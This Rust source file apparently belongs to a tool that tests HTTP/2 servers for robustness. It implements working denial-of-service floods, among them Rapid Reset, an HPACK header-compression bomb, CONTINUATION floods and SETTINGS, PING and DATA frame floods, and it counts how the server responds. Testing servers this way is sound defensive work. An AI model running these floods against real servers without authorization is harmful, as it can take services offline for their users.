//! Attacks with valid frames of HTTP/2: floods, cancelled requests, and compressed header fields that become large.

use super::{Attack, Attacker, Row, TIMEOUT, WorkAim};
use crate::Result;
use crate::client::End;
use crate::frames::{
    CONTINUATION, DATA, END_STREAM, GOAWAY, HEADERS, INITIAL_WINDOW_SIZE, MAX_PAYLOAD_LEN, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, frame, opening, push_field, push_frame, push_indexed_field, push_request, request_fields,
    settings_payload, take_frames,
};

/// The rows of this family.
pub const ROWS: &[Row] = &[
    per_request("http2-requests", "GET /healthz over HTTP/2, all read", |attacker| {
        send_gets(attacker, &[], &request_fields("GET", "/healthz", &[]), 20_000)
    }),
    per_request("http2-window-zero", "100,000 GET of an unknown path, without window for bodies", |attacker| {
        send_gets(attacker, &[(INITIAL_WINDOW_SIZE, 0)], &request_fields("GET", "/nowhere", &[]), 100_000)
    }),
    per_request("http2-rapid-reset", "100,000 requests that are cancelled at once", rapid_reset),
    per_megabyte("http2-indexed-fields", "one indexed field 100,000 times in one head", |attacker| {
        // 0x90 is the field 16 of the static table, `accept-encoding: gzip, deflate`.
        send_head(attacker, &[0x90; 100_000])
    }),
    per_megabyte("http2-same-field", "one empty field 100,000 times in one head, a byte each", |attacker| {
        let mut fields = Vec::new();
        push_indexed_field(&mut fields, "a", "");
        fields.extend_from_slice(&[0xbe; 100_000]);
        send_head(attacker, &fields)
    }),
    per_megabyte("http2-hpack-bomb", "a field of 4,000 bytes, referred to 100,000 times", |attacker| {
        let mut fields = Vec::new();
        push_indexed_field(&mut fields, "x-long", &"x".repeat(4_000));
        // 0xbe is the first field of the table of the connection.
        fields.extend_from_slice(&[0xbe; 100_000]);
        send_head(attacker, &fields)
    }),
    per_megabyte("http2-many-fields", "20,000 short fields in one head", |attacker| {
        let mut fields = Vec::new();
        for _ in 0..20_000 {
            push_field(&mut fields, "a", "");
        }
        send_head(attacker, &fields)
    }),
    per_megabyte("http2-table-size", "100,000 changes of the table size in one head", |attacker| {
        // 0x20 and 0x3f 0xe1 0x1f set the size to 0 and to 4,096.
        send_head(attacker, &[0x20, 0x3f, 0xe1, 0x1f].repeat(25_000))
    }),
    per_megabyte("http2-empty-continuations", "empty CONTINUATION frames without end", |attacker| {
        let mut bytes = opening(&[]);
        push_frame(&mut bytes, HEADERS, END_STREAM, 1, &request_fields("GET", "/healthz", &[]));
        bytes.extend_from_slice(&frame(CONTINUATION, 0, 1, &[]).repeat(FLOOD_LEN / 9));
        flood(attacker, &bytes)
    }),
    per_megabyte("http2-settings", "SETTINGS frames with six settings", |attacker| {
        let settings = settings_payload(&[(1, 0), (2, 0), (3, 100), (4, 65_535), (5, 16_384), (6, 1 << 20)]);
        flood_of(attacker, &frame(SETTINGS, 0, 0, &settings))
    }),
    per_megabyte("http2-empty-settings", "empty SETTINGS frames", |attacker| {
        flood_of(attacker, &frame(SETTINGS, 0, 0, &[]))
    }),
    per_megabyte("http2-ping", "PING frames", |attacker| flood_of(attacker, &frame(PING, 0, 0, b"12345678"))),
    per_megabyte("http2-priority", "PRIORITY frames", |attacker| {
        flood_of(attacker, &frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 7]))
    }),
    per_megabyte("http2-window-updates", "WINDOW_UPDATE frames", |attacker| {
        flood_of(attacker, &frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]))
    }),
    per_megabyte("http2-unknown-frames", "frames of an unknown type", |attacker| {
        flood_of(attacker, &frame(0xfa, 0, 0, &[]))
    }),
    per_megabyte("http2-empty-data", "empty DATA frames in the body of a request", |attacker| {
        let mut bytes = opening(&[]);
        let fields = request_fields("POST", "/publication/search", &[("content-type", "application/json")]);
        push_request(&mut bytes, 1, true, &fields);
        bytes.extend_from_slice(&frame(DATA, 0, 1, &[]).repeat(FLOOD_LEN / 9));
        flood(attacker, &bytes)
    }),
    per_megabyte("http2-padded-data", "DATA frames that consist of padding", |attacker| {
        const PADDED: u8 = 8;
        let mut bytes = opening(&[]);
        push_request(
            &mut bytes,
            1,
            true,
            &request_fields("POST", "/publication/search", &[("content-type", "application/json")]),
        );
        let padding = [&[255][..], &[0; 255]].concat();
        bytes.extend_from_slice(&frame(DATA, PADDED, 1, &padding).repeat(FLOOD_LEN / 265));
        flood(attacker, &bytes)
    }),
    per_megabyte("http2-tiny-data", "a body in DATA frames of 1 byte", |attacker| {
        let mut bytes = opening(&[]);
        push_request(
            &mut bytes,
            1,
            true,
            &request_fields("POST", "/publication/search", &[("content-type", "application/json")]),
        );
        bytes.extend_from_slice(&frame(DATA, 0, 1, b" ").repeat(60_000));
        push_frame(&mut bytes, DATA, END_STREAM, 1, b"{}");
        flood(attacker, &bytes)
    }),
    per_megabyte("http2-long-field", "a field of 60 KB", |attacker| {
        let long = "x".repeat(60_000);
        send_head(attacker, &request_fields("GET", "/healthz", &[("x-long", &long)]))
    }),
];

/// The length in bytes of a flood of frames.
pub(super) const FLOOD_LEN: usize = 1_000_000;

pub(super) const fn per_megabyte(
    name: &'static str,
    about: &'static str,
    pass: fn(&mut Attacker<'_>) -> Result<()>,
) -> Row {
    Row { name, about, attack: Attack::Work(WorkAim::PerMegabyte, pass) }
}

pub(super) const fn per_request(
    name: &'static str,
    about: &'static str,
    pass: fn(&mut Attacker<'_>) -> Result<()>,
) -> Row {
    Row { name, about, attack: Attack::Work(WorkAim::PerRequest, pass) }
}

/// Sends requests with these fields, at most 100 at the same time, and reads a response or a rejection of each.
pub(super) fn send_gets(attacker: &mut Attacker<'_>, settings: &[(u16, u32)], fields: &[u8], count: u32) -> Result<()> {
    const CONCURRENT: u32 = 100;
    let mut connection = attacker.connect()?;
    let mut output = opening(settings);
    let (mut ended, mut received_len, mut is_refused) = (0, 0, false);
    for first in (0..count).step_by(CONCURRENT as usize) {
        for number in first..count.min(first + CONCURRENT) {
            push_request(&mut output, 2 * number + 1, false, fields);
        }
        // The responses use up the window of the connection.
        push_frame(&mut output, WINDOW_UPDATE, 0, 0, &(1_u32 << 16).to_be_bytes());
        let expected = count.min(first + CONCURRENT);
        let end = connection.exchange(&output, TIMEOUT, |received| {
            take_frames(received, |kind, flags, _, payload| {
                received_len += payload.len();
                // Without a window, a response has no body, so that its head is all that arrives.
                let has_ended = match kind {
                    HEADERS => !settings.is_empty() || flags & END_STREAM != 0,
                    DATA => flags & END_STREAM != 0,
                    RST_STREAM => true,
                    _ => false,
                };
                ended += u32::from(has_ended);
                is_refused |= kind == GOAWAY;
            });
            ended >= expected || is_refused
        })?;
        output.clear();
        if is_refused || end != End::Done {
            break;
        }
    }
    attacker.count(&connection, u64::from(ended));
    Ok(())
}

/// Sends requests, each of which is cancelled by the next frame, until the server closes the connection.
fn rapid_reset(attacker: &mut Attacker<'_>) -> Result<()> {
    const COUNT: u32 = 100_000;
    let fields = request_fields("GET", "/article", &[]);
    let mut bytes = opening(&[]);
    let prefix_len = bytes.len();
    for number in 0..COUNT {
        push_request(&mut bytes, 2 * number + 1, false, &fields);
        push_frame(&mut bytes, RST_STREAM, 0, 2 * number + 1, &8_u32.to_be_bytes());
    }
    let sent = flood_counted(attacker, &bytes)?.saturating_sub(prefix_len as u64);
    attacker.requests += u64::from(COUNT) * sent / bytes.len() as u64;
    Ok(())
}

/// Sends a head with these fields after those of a valid request. The server must reject it.
fn send_head(attacker: &mut Attacker<'_>, fields: &[u8]) -> Result<()> {
    let fields = [request_fields("GET", "/healthz", &[]), fields.to_vec()].concat();
    let mut bytes = opening(&[]);
    push_request(&mut bytes, 1, false, &fields);
    // The first header field of a response has the status: 0x88 is 200.
    let (mut is_accepted, mut end) = (false, "closed");
    let mut connection = attacker.connect()?;
    connection.exchange(&bytes, TIMEOUT, |received| {
        let mut is_over = false;
        take_frames(received, |kind, flags, stream, payload| {
            let has_ended = stream == 1 && (kind == RST_STREAM || flags & END_STREAM != 0);
            is_accepted |= kind == HEADERS && payload.first() == Some(&0x88);
            is_over |= kind == GOAWAY || has_ended;
            match kind {
                GOAWAY => end = "GOAWAY",
                RST_STREAM => end = "RST_STREAM",
                HEADERS => end = "HEADERS",
                _ => {}
            }
        });
        is_over
    })?;
    if is_accepted && fields.len() > MAX_PAYLOAD_LEN {
        attacker.miss("the server accepts the head".to_owned());
    }
    attacker.count_end(end);
    attacker.count(&connection, 1);
    Ok(())
}

/// Begins a connection, and sends the same frame again and again.
fn flood_of(attacker: &mut Attacker<'_>, frame: &[u8]) -> Result<()> {
    let bytes = [opening(&[]), frame.repeat(FLOOD_LEN / frame.len())].concat();
    flood(attacker, &bytes)
}

/// Sends bytes until the server closes the connection or has handled them.
pub(super) fn flood(attacker: &mut Attacker<'_>, bytes: &[u8]) -> Result<()> {
    flood_counted(attacker, bytes).map(drop)
}

/// Sends bytes and reads what the server sends, until it has closed the connection, or has responded to a PING frame at
/// the end, which shows that it has handled all frames. Returns the number of bytes that the server accepted.
fn flood_counted(attacker: &mut Attacker<'_>, bytes: &[u8]) -> Result<u64> {
    const LAST: &[u8] = b"the last";
    /// The number of bytes after which the client checks whether the server closes the connection.
    const PIECE_LEN: usize = 16 << 10;
    let mut connection = attacker.connect()?;
    let bytes = [bytes, &frame(PING, 0, 0, LAST)].concat();
    let (mut is_over, mut goes_away) = (false, false);
    let mut end = End::Done;
    let pieces = bytes.len().div_ceil(PIECE_LEN);
    for (number, piece) in (1..).zip(bytes.chunks(PIECE_LEN)) {
        end = connection.exchange(piece, TIMEOUT, |received| {
            take_frames(received, |kind, _, _, payload| {
                goes_away |= kind == GOAWAY;
                is_over |= kind == PING && payload == LAST;
            });
            goes_away || is_over || number < pieces
        })?;
        if goes_away || end != End::Done {
            break;
        }
    }
    if end == End::TimedOut {
        attacker.miss("the server neither handles all frames nor closes the connection".to_owned());
    }
    attacker.count_end(match end {
        _ if goes_away => "GOAWAY",
        End::Closed => "closed",
        _ => "handled",
    });
    attacker.count(&connection, 0);
    Ok(connection.sent_bytes)
}
